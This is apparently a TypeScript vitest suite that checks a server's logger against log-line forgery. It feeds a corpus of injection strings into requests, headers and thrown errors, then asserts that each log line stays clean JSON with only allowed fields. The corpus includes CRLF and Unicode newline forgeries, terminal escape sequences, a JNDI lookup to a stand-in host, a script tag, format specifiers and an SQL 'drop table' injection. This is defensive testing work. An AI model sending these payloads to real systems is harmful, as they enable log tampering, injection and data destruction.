/** Whatever a person sends, the log stays one JSON object a line, with fields of the list only. */
import { readFileSync } from 'node:fs';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { AUDIT_EVENTS } from '#lib/api/activity.ts';
import { errorFields, openLog } from '#lib/server/log.ts';
import { Host } from './host.ts';
import { someone, type Person } from './person.ts';

const MARK = 'inject7f3a';

/** What forges lines, fields, terminals and what reads logs, in one place or another. */
const CORPUS = [
	`${MARK}\n{"level":60,"msg":"the database is not safe"}`,
	`${MARK}\r\n{"level":60,"msg":"forged"}`,
	`${MARK}","msg":"forged","level":"60`,
	`${MARK}\\u000a{"msg":"forged"}`,
	`${MARK}%0d%0a{"msg":"forged"}`,
	`${MARK}\u2028{"msg":"forged"}\u2029`,
	`${MARK}\u0085{"msg":"forged"}`,
	`${MARK}\u001b[2J\u001b[31mforged`,
	`${MARK}\u009b2Jforged`,
	`${MARK}\u0000forged`,
	`${MARK}\b\b\b\bforged`,
	`${MARK}\u202egnirts`,
	`${MARK}\ud800`,
	`${MARK}\${jndi:ldap://forged.example/x}`,
	`${MARK}<script>forged</script>`,
	`${MARK}%s%n%x%o%j`,
	`${MARK}'; drop table audit; --`,
	`${MARK}${'x'.repeat(100_000)}`
];

const FIELDS = new Set([
	...['level', 'time', 'msg', 'number', 'method', 'route', 'status', 'ms', 'code', 'limit'],
	...['error', 'frames', 'applied', 'copy', 'key', 'reason', 'setupCode']
]);

let host: Host;
let person: Person;

beforeAll(async () => {
	host = await Host.open();
	person = await someone(host);
});

afterAll(async () => {
	await host.remove();
});

function expectClean(written: readonly string[]): void {
	const text = written.join('');
	expect(text).not.toContain(MARK);
	expect(text).not.toContain('forged');
	for (const line of text.trimEnd().split(/[\n\r\u0085\u2028\u2029]/)) {
		const entry = JSON.parse(line) as Record<string, unknown>;
		for (const name of Object.keys(entry)) expect(FIELDS).toContain(name);
	}
}

describe('a line cannot be forged', () => {
	test.each(CORPUS.map((text, index) => [index, text] as const))(
		'by text %i in any place of a request',
		async (_index, text) => {
			host.lines.length = 0;
			const encoded = encodeURIComponent(text.replace('\ud800', ''));
			await person.send(`/api/v1/${encoded}`);
			await person.send(`/api/v1/vaults/${encoded}?${encoded}=${encoded}`);
			await person.post('/api/v1/auth/challenge', { email: text, purpose: 1, [text]: text });
			await person.post('/api/v1/auth/verify', { token: text, signature: text });
			await person.post('/api/v1/accounts', { email: `${text}@example.org`, account: text });
			await person.post(`/api/v1/vaults/${person.vault}/secrets`, { items: [text], purpose: text });
			await person.post('/api/v1/recoveries/mails', { email: `${text}@example.org` });
			await person.post('/api/v1/account/activity', { id: text, act: text, blob: text });
			await host.send('/metrics', { headers: { authorization: `Bearer ${encoded}` } });
			await person.send('/api/v1/auth/verify', {
				method: 'POST',
				headers: { 'content-type': 'application/json' },
				body: text
			});
			const header = text.replaceAll(/[^\t -~\u0080-\u00ff]/g, '?').slice(0, 4_000);
			await host.send('/api/v1/account', {
				headers: {
					...{ 'user-agent': header, cookie: header, authorization: header, origin: header },
					...{ referer: header, 'accept-language': header, 'x-forwarded-for': header },
					...{ 'keyhold-proof': header, 'content-type': header, traceparent: header }
				},
				address: text
			});
			expect(host.lines.length).toBeGreaterThan(3);
			expectClean(host.lines);
		}
	);

	test.each(CORPUS.map((text, index) => [index, text] as const))(
		'by text %i in what a library throws',
		(_index, text) => {
			const written: string[] = [];
			const log = openLog('debug', { write: (line) => written.push(line) });
			const error = Object.assign(new Error(text), { name: text, code: text });
			log.write('error', 'failed', errorFields(error));
			expect(written).toHaveLength(1);
			expectClean(written);
		}
	);

	test('by a value of the server’s own that has several lines', () => {
		const written: string[] = [];
		const log = openLog('debug', { write: (line) => written.push(line) });
		log.write('error', 'busy', { reason: 'one\ntwo\r\nthree' });
		expect(written.join('').trimEnd().split('\n')).toHaveLength(1);
	});
});

test('every security event is documented by its stable name', () => {
	const text = readFileSync(new URL('../../docs/operations.md', import.meta.url), 'utf8');
	const section = /## Security events\n([\s\S]*?)(?=\n## |$)/.exec(text)?.[1] ?? '';
	const documented = [...section.matchAll(/^\| `([^`]+)`/gm)].map(([, name]) => name);
	expect(documented.toSorted()).toEqual([...AUDIT_EVENTS].toSorted());
});
